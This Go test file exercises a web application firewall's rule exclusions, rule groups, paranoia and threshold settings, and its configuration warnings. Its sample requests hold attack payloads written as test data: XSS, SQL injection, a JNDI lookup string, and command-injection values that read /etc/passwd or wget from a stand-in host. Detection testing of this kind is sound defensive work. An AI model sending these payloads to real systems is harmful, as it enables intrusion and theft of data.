package waf

import (
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// Each exclusion lets through what it names and nothing beside it.
func TestExclusionsAreMinimal(t *testing.T) {
	t.Parallel()
	const script = "<script>alert(1)</script>"
	form := map[string]string{"Content-Type": "application/x-www-form-urlencoded"}
	json := map[string]string{"Content-Type": "application/json"}
	multi := map[string]string{"Content-Type": multipartType}
	field := func(name string) string {
		return multipartBody("Content-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + union)
	}
	tests := []struct {
		target string
		passes []sample
		stays  []sample
	}{
		{
			"query.id",
			[]sample{{target: "/?id=" + escaped(union)}, {target: "/?ID=" + escaped(union)}},
			[]sample{
				{target: "/?idx=" + escaped(union)},
				{target: "/?a=1&b=" + escaped(union)},
				{header: form, body: "id=" + escaped(union)},
				{header: map[string]string{"Cookie": "id=" + union}},
				{header: json, body: `{"id":"` + union + `"}`},
			},
		},
		{
			"form.id",
			[]sample{{header: form, body: "id=" + escaped(union)}, {header: multi, body: field("id")}},
			[]sample{{target: "/?id=" + escaped(union)}, {header: form, body: "x=" + escaped(union)}, {header: multi, body: field("ids")}},
		},
		{
			"json.query",
			[]sample{{header: json, body: `{"query":"` + union + `"}`}},
			[]sample{
				{header: json, body: `{"query":{"a":"` + union + `"}}`},
				{header: json, body: `{"other":"` + union + `"}`},
				{target: "/?query=" + escaped(union)},
				{header: form, body: "query=" + escaped(union)},
			},
		},
		{
			"json.items.*.name",
			[]sample{{header: json, body: `{"items":[{"name":"x"},{"name":"` + union + `"}]}`}},
			[]sample{
				{header: json, body: `{"items":[{"title":"` + union + `"}]}`},
				{header: json, body: `{"items":[{"a":{"name":"` + union + `"}}]}`},
			},
		},
		{
			"query.filter[*]",
			[]sample{{target: "/?filter[name]=" + escaped(union)}},
			[]sample{{target: "/?filter=" + escaped(union)}, {target: "/?xfilter[name]=" + escaped(union)}},
		},
		{
			"cookie.prefs",
			[]sample{{header: map[string]string{"Cookie": "prefs=" + union}}},
			[]sample{{header: map[string]string{"Cookie": "pref=" + union}}, {target: "/?prefs=" + escaped(union)}},
		},
		{
			"query",
			[]sample{{target: "/?id=" + escaped(union)}, {target: "/?" + escaped(script) + "=1"}},
			[]sample{{header: form, body: "id=" + escaped(union)}, {header: map[string]string{"Cookie": "id=" + union}}},
		},
		{
			"path",
			[]sample{{target: "/" + escaped(script)}},
			[]sample{{target: "/?q=" + escaped(script)}, {target: "/x", header: map[string]string{"Referer": script}}},
		},
		{
			"files",
			[]sample{{header: multi, body: multipartBody("Content-Disposition: form-data; name=\"f\"; filename=\"a'b;c.txt\"\r\n\r\nx")}},
			[]sample{{header: multi, body: field("id")}},
		},
		{
			"header.Referer",
			[]sample{{header: map[string]string{"Referer": script}}},
			[]sample{{header: map[string]string{"User-Agent": script}}, {target: "/?referer=" + escaped(script)}},
		},
		{
			"body",
			[]sample{
				{header: form, body: "id=" + escaped(union)},
				{header: json, body: `{"a":"` + union + `"}`},
				{header: multi, body: field("id")},
				{header: map[string]string{"Content-Type": "text/xml"}, body: `<a b="` + union + `">` + union + `</a>`},
				{header: map[string]string{"Content-Type": "text/plain"}, body: union},
			},
			[]sample{{target: "/?id=" + escaped(union)}, {header: map[string]string{"Cookie": "a=" + union}}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.target, func(t *testing.T) {
			t.Parallel()
			groups := []string{"sqli", "core"}
			e := newTestEngine(t, Config{Groups: groups, Exclude: []Exclusion{
				{Group: "sqli", Target: tt.target},
				{Group: "core", Target: tt.target},
			}}, "")
			plain := newTestEngine(t, Config{Groups: groups}, "")
			for i, s := range tt.passes {
				if v := plain.check(s.request()); verdictOf(v) != http.StatusForbidden {
					t.Errorf("passes[%d] without the exclusion: got %d, want 403", i, verdictOf(v))
				}
				if v := e.check(s.request()); verdictOf(v) != http.StatusOK {
					t.Errorf("passes[%d]: got %d with %+v, want 200", i, verdictOf(v), v.result.Matches)
				}
			}
			for i, s := range tt.stays {
				if v := e.check(s.request()); verdictOf(v) != http.StatusForbidden {
					t.Errorf("stays[%d]: got %d, want 403", i, verdictOf(v))
				}
			}
		})
	}
}

func TestExclusionOfARule(t *testing.T) {
	t.Parallel()
	s := sample{target: "/?id=" + escaped(union)}
	all := ids(newTestEngine(t, Config{}, "").check(s.request()).result)
	e := newTestEngine(t, Config{Exclude: []Exclusion{{Rule: 942100}, {Rule: 942421}, {Rule: 942190, Target: "query.id"}}}, "")
	got := ids(e.check(s.request()).result)
	want := slices.DeleteFunc(all, func(id int) bool { return id == 942100 || id == 942190 })
	if !slices.Equal(got, want) || len(want) == 0 {
		t.Errorf("matches: got %v, want %v", got, want)
	}
	e = newTestEngine(t, Config{Exclude: []Exclusion{{Group: "sqli"}}}, "")
	if got := ids(e.check(s.request()).result); len(got) != 0 {
		t.Errorf("matches without the group: got %v, want none", got)
	}
}

// What a result suggests is what lets the request through when it is written into the configuration.
func TestSuggestedExclusionsLetTheRequestThrough(t *testing.T) {
	t.Parallel()
	plain := newTestEngine(t, Config{}, "")
	for i, tt := range attacks() {
		if raceEnabled && i%10 != 0 {
			continue // an engine for each is too much for the race detector
		}
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			var cfg Config
			// A refusal at once hides what comes after it: three rounds.
			for range 3 {
				e := plain
				if len(cfg.Exclude) > 0 {
					e = newTestEngine(t, cfg, "")
				}
				v := e.check(tt.attack.request())
				if v.err == nil {
					return
				}
				for _, m := range v.result.Matches {
					cfg.Exclude = append(cfg.Exclude, Exclusion{Rule: m.RuleID, Target: m.Target})
				}
			}
			t.Errorf("still refused with the exclusions %+v", cfg.Exclude)
		})
	}
}

func TestGroupsSelectRules(t *testing.T) {
	t.Parallel()
	samples := map[string]sample{
		"core":             {target: "/?q=" + escaped("<script>alert(1)</script>")},
		"known-bad-inputs": {header: map[string]string{"X-Api-Version": "${jndi:ldap://203.0.113.9/a}"}},
		"sqli":             {target: "/?id=" + escaped("1' UNION SELECT password FROM users-- -")},
		"linux":            {target: "/?h=" + escaped("a;cat /etc/passwd")},
		"posix":            {target: "/?h=" + escaped("a;wget http://e.example/x")},
		"windows":          {target: "/?h=" + escaped("powershell.exe -NoP -NonI Invoke-Expression")},
		"php":              {target: "/?x=" + escaped("<?php phpinfo(); ?>")},

		"wordpress":         {target: "/xmlrpc.php"},
		"admin-protection":  {target: "/phpmyadmin/"},
		"size-restrictions": {target: "/?q=" + strings.Repeat("a", 3000)},
	}
	known := knownRules()
	for _, g := range groups() {
		if g.name == responseGroup || g.operator {
			continue
		}
		groups := Groups{g.name}
		if g.extra { // alone in a list it adds to the others
			groups = append(groups, "core:off", "known-bad-inputs:off", "sqli:off", "linux:off", "posix:off", "windows:off", "php:off")
		}
		e := newTestEngine(t, Config{Groups: groups}, "")
		v := e.check(samples[g.name].request())
		if len(v.result.Matches) == 0 {
			t.Errorf("%s: found nothing in its own attack", g.name)
		}
		for name, s := range samples {
			if raceEnabled && name != "core" {
				continue // every rule is slow under the race detector
			}
			for _, id := range ids(e.check(s.request()).result) {
				if r, ok := known[id]; ok && len(groupsOf(r)) > 0 && !g.has(r) {
					t.Errorf("%s: rule %d of another group matched the attack of %s", g.name, id, name)
				}
			}
		}
		// What cannot be read is refused under every group.
		bad := sample{header: map[string]string{"Content-Type": "application/json"}, body: "{"}
		if got := verdictOf(e.check(bad.request())); got != http.StatusBadRequest {
			t.Errorf("%s: unreadable body got %d, want 400", g.name, got)
		}
	}
}

func TestParanoiaAndThreshold(t *testing.T) {
	t.Parallel()
	suspicious := sample{target: "/?q=" + escaped("a' or b; -- c |")}
	low := ids(newTestEngine(t, Config{}, "").check(suspicious.request()).result)
	high := ids(newTestEngine(t, Config{Paranoia: 4}, "").check(suspicious.request()).result)
	if len(high) <= len(low) {
		t.Errorf("matches: got %v at 4 and %v at 1, want more at 4", high, low)
	}
	attack := sample{target: "/?id=" + escaped(union)}
	for threshold, want := range map[int]int{20: http.StatusForbidden, 21: http.StatusOK} {
		e := newTestEngine(t, Config{Threshold: threshold}, "")
		if v := e.check(attack.request()); verdictOf(v) != want || v.result.Score != 20 {
			t.Errorf("threshold %d: got %d at score %d, want %d at 20", threshold, verdictOf(v), v.result.Score, want)
		}
	}
}

// An exclusion that does nothing is told of, with what would do something.
func TestIdleExclusions(t *testing.T) {
	t.Parallel()
	cfg := Config{
		Groups: Groups{"core", "sqli", "php:count"}, Rules: map[string]string{"942190": "off"},
		Exclude: []Exclusion{
			{Rule: 942100, Target: "query.id"},
			{Rule: 933100},
			{Rule: 942421, Target: "cookie._ga"},
			{Rule: 944150},
			{Rule: 942190},
			{Group: "windows", Target: "body"},
			{Rules: "944100-944300"},
			{Tag: "attack-injection-java"},
			{Tag: "attack-sqli", Target: "path"},
			{Rule: 942100, Target: "header.Referrer"},
			{Rule: 942100, Target: "json.items.*.name"},
			{Rule: 920100, Target: "header.X"},
			{Rule: 930130, Target: "uri"},
			{Rule: 911100, Target: "query.x"},
			{Rule: 942100, Target: "files"},
			{Rule: 1},                           // Validate says it
			{Rule: 942100, Target: "nothing.x"}, // the same
		},
	}
	var got []string
	cfg.Idle(func(i int, field, msg string) { got = append(got, fmt.Sprintf("%d.%s: %s", i, field, msg)) })
	want := []string{
		`2.rule: rule 942421 does not run: it belongs to paranoia 4, and this is 1`,
		`3.rule: rule 944150 does not run: no group that it belongs to is on (known-bad-inputs)`,
		`4.rule: rule 942190 does not run: rules says off`,
		`5.group: none of its rules runs: the group windows is off here`,
		`6.rules: none of its rules runs: rule 944100 does not run: no group that it belongs to is on (known-bad-inputs)`,
		`7.tag: none of its rules runs: rule 190340 does not run: no group that it belongs to is on (known-bad-inputs)`,
		`9.target: rule 942100 does not read header.Referrer: did you mean "header.Referer"? (want one of body, cookie.NAME, form.NAME, header.Referer, header.User-Agent, json.NAME, query, query.NAME)`,
		`11.target: rule 920100 does not read header.X (want one of uri)`,
		`12.target: rule 930130 does not read uri (want one of path)`,
		`13.target: rule 911100 does not read query.x, nor anything else that can be named (leave the target out)`,
		`14.target: rule 942100 does not read files (want one of body, cookie.NAME, form.NAME, header.Referer, header.User-Agent, json.NAME, query, query.NAME)`,
	}
	if diff := cmp.Diff(got, want); diff != "" {
		t.Errorf("got (-) want (+)\n%s", diff)
	}
}

// What is said about rules that do not run anyway is told of; that they are off is no contradiction.
func TestIdleRules(t *testing.T) {
	t.Parallel()
	cfg := Config{Groups: Groups{"core", "sqli"}, Rules: map[string]string{
		"942100": "count", "942421": "count", "944150": "block", "944100-944999": "count", "944151": "off", "942000-944999": "count",
		"1": "count", "x": "count", // Validate says it
	}}
	told := func(cfg Config) (got []string) {
		cfg.IdleRules(func(key, msg string) { got = append(got, key+": "+msg) })
		return got
	}
	want := []string{
		`942421: does nothing: rule 942421 does not run: it belongs to paranoia 4, and this is 1`,
		`944100-944999: does nothing: rule 944100 does not run: no group that it belongs to is on (known-bad-inputs)`,
		`944150: does nothing: rule 944150 does not run: no group that it belongs to is on (known-bad-inputs)`,
	}
	if diff := cmp.Diff(told(cfg), want); diff != "" {
		t.Errorf("got (-) want (+)\n%s", diff)
	}
	cfg.Mode = ModeOff
	if got := told(cfg); got != nil {
		t.Errorf("where nothing runs: got %q, want nothing said", got)
	}
}

// The words of others lead to those that are taken here.
func TestWordsOfOthers(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{
		"AWSManagedRulesCommonRuleSet": "core", "AWSManagedRulesKnownBadInputsRuleSet": "known-bad-inputs", "AWSManagedRulesAdminProtectionRuleSet": "admin-protection",
		"AWSManagedRulesSQLiRuleSet": "sqli", "AWSManagedRulesLinuxRuleSet": "linux", "AWSManagedRulesUnixRuleSet": "posix",
		"AWSManagedRulesWindowsRuleSet": "windows", "AWSManagedRulesPHPRuleSet": "php", "AWSManagedRulesWordPressRuleSet": "wordpress",
		"SQLI": "sqli", "core": "", "AWSManagedRulesBotControlRuleSet": "",
	} {
		got := CheckGroup(name)
		if has := strings.Contains(got, fmt.Sprintf(": did you mean %q?", want)); has != (want != "") {
			t.Errorf("group %s: got %q, want %q suggested", name, got, want)
		}
	}
	for name, want := range map[string]string{
		"ARGS:q": `"query.q" or "form.q"`, "args": `"query.NAME" or "form.NAME"`, "ARGS_POST:q": `"form.q"`, "REQUEST_HEADERS:Referer": `"header.Referer"`,
		"REQUEST_COOKIES:a": `"cookie.a"`, "headers.x": `"header.x"`, "header": `"header.NAME"`, "file": `"files"`, "nonsense.x": "",
	} {
		_, err := parseTarget(name)
		if has := strings.Contains(fmt.Sprint(err), "did you mean "+want+"?"); err == nil || has != (want != "") {
			t.Errorf("target %s: got %v, want %s suggested", name, err, want)
		}
	}
}

// What is suggested for a match is never an exclusion that does nothing.
func TestSuggestedExclusionsAreNotIdle(t *testing.T) {
	t.Parallel()
	e := newTestEngine(t, Config{Mode: ModeCount, Paranoia: 4}, "")
	suggested := Config{Paranoia: 4}
	for _, tt := range attacks() {
		for _, m := range e.check(tt.attack.request()).result.Matches {
			suggested.Exclude = append(suggested.Exclude, Exclusion{Rule: m.RuleID, Target: m.Target})
		}
	}
	suggested.Validate(func(field, msg string) { t.Errorf("%s: %s", field, msg) })
	suggested.Idle(func(i int, field, msg string) { t.Errorf("%+v: %s: %s", suggested.Exclude[i], field, msg) })
	if len(suggested.Exclude) < 100 {
		t.Errorf("got %d suggestions, want many", len(suggested.Exclude))
	}
}
